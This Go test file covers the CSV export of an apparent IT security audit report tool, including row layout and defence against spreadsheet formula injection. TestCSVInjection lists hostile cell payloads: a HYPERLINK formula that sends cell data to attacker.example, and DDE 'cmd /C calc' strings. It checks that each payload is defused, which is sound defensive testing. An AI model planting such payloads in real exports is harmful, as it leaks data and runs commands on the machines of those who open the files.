package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"triage/internal/audit"
)

func readCSV(t *testing.T, out []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV report does not parse: %v", err)
	}
	return rows
}

// column returns the named cell of a row.
func column(t *testing.T, row []string, name string) string {
	t.Helper()
	for i, h := range csvHeader {
		if h == name {
			return row[i]
		}
	}
	t.Fatalf("no column %q", name)
	return ""
}

func TestCSVShape(t *testing.T) {
	r := sample()
	out := write(t, FormatCSV, r, Options{})
	if bytes.Contains(out, []byte("\r\n")) {
		t.Error("records end in CRLF; the CSV report uses LF")
	}
	rows := readCSV(t, out)
	if diff := cmp.Diff(csvHeader, rows[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	want := 0
	for _, f := range r.Findings {
		want += max(1, len(f.Subjects))
	}
	if got := len(rows) - 1; got != want {
		t.Errorf("%d data rows, want %d (one per subject, one per finding without subjects)", got, want)
	}
	for _, row := range rows[1:] {
		if len(row) != len(csvHeader) {
			t.Fatalf("row %v has %d cells, want %d", row, len(row), len(csvHeader))
		}
	}
	// The leaver finding: two subjects, the action that closes it, and
	// each subject's own provenance.
	var leaver [][]string
	for _, row := range rows[1:] {
		if row[0] == "ACC-LEAVER-REVOKE" {
			leaver = append(leaver, row)
		}
	}
	if len(leaver) != 2 {
		t.Fatalf("ACC-LEAVER-REVOKE has %d rows, want 2", len(leaver))
	}
	for name, want := range map[string]string{
		"band": "now", "action": "Switch off every login of people who have left", "owner": "provider",
		"subject_kind": "account", "subject_id": `HARBOURSIDE\locum2`, "source_file": "ad-users.csv",
		"source_line": "88", "source_sha256": shaAD,
		"remediation": "Disable the accounts listed above today. / Add \"disable every login\" to the leaver checklist, with the IT provider told on the last day. / Review every enabled account against the staff list each quarter.",
	} {
		if got := column(t, leaver[1], name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
}

func TestCSVFindingWithoutSubjectsOrAction(t *testing.T) {
	rows := readCSV(t, write(t, FormatCSV, sample(), Options{}))
	for _, row := range rows[1:] {
		if row[0] != "DAT-MHR-POLICY" {
			continue
		}
		for _, name := range []string{"band", "action", "owner", "subject_kind", "subject_id", "source_file", "source_line", "source_sha256"} {
			if got := column(t, row, name); got != "" {
				t.Errorf("%s = %q for a passed finding without subjects, want empty", name, got)
			}
		}
		return
	}
	t.Fatal("no row for DAT-MHR-POLICY")
}

// Text from evidence that a spreadsheet would run as a formula is written
// with a leading apostrophe, so it shows as text.
func TestCSVInjection(t *testing.T) {
	r := sample()
	payloads := []string{
		`=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")`,
		"+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"-1+1",
		"\t=1+1",
		"\r=1+1",
	}
	subjects := make([]audit.Subject, len(payloads))
	for i, p := range payloads {
		subjects[i] = audit.Subject{ID: "user" + string(rune('a'+i)), Kind: "account", Detail: p,
			Source: &audit.Source{File: p, Path: p}}
	}
	r.Findings[0].Subjects = subjects
	r.Findings[0].Reason = "=1+1"
	rows := readCSV(t, write(t, FormatCSV, r, Options{}))
	var got []string
	for _, row := range rows[1:] {
		if row[0] != "ACC-LEAVER-REVOKE" {
			continue
		}
		got = append(got, column(t, row, "subject_detail"))
		for _, name := range []string{"source_file", "source_path", "reason"} {
			if c := column(t, row, name); c != "" && !strings.HasPrefix(c, "'") {
				t.Errorf("%s = %q is not defused", name, c)
			}
		}
	}
	var want []string
	for _, p := range payloads {
		want = append(want, "'"+p)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("subject details (-want +got):\n%s", diff)
	}
}

func TestExcelSafe(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"plain":        "plain",
		"=1+1":         "'=1+1",
		"+1":           "'+1",
		"-1+1":         "'-1+1",
		"@SUM(A1)":     "'@SUM(A1)",
		"\t=1":         "'\t=1",
		"\r=1":         "'\r=1",
		"a=1":          "a=1",
		" =1":          " =1",
		"2026-11-30":   "2026-11-30",
		"k.o@host.com": "k.o@host.com",
	} {
		if got := excelSafe(in); got != want {
			t.Errorf("excelSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// Whatever the text, no cell of the CSV report starts a formula.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1", "+1", "-1", "@a", "\t=1", "\r\n=1", "a,b", `"q"`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := &audit.Result{Findings: []audit.Finding{{ControlID: "X", Title: s, Reason: s,
			Subjects: []audit.Subject{{ID: s, Detail: s, Source: &audit.Source{File: s, Path: s}}}}}}
		var b bytes.Buffer
		if err := (CSVWriter{Output: &b}).Write(r); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("CSV for %q does not parse: %v", s, err)
		}
		for _, row := range rows[1:] {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Fatalf("cell %q starts a formula", c)
				}
			}
		}
	})
}
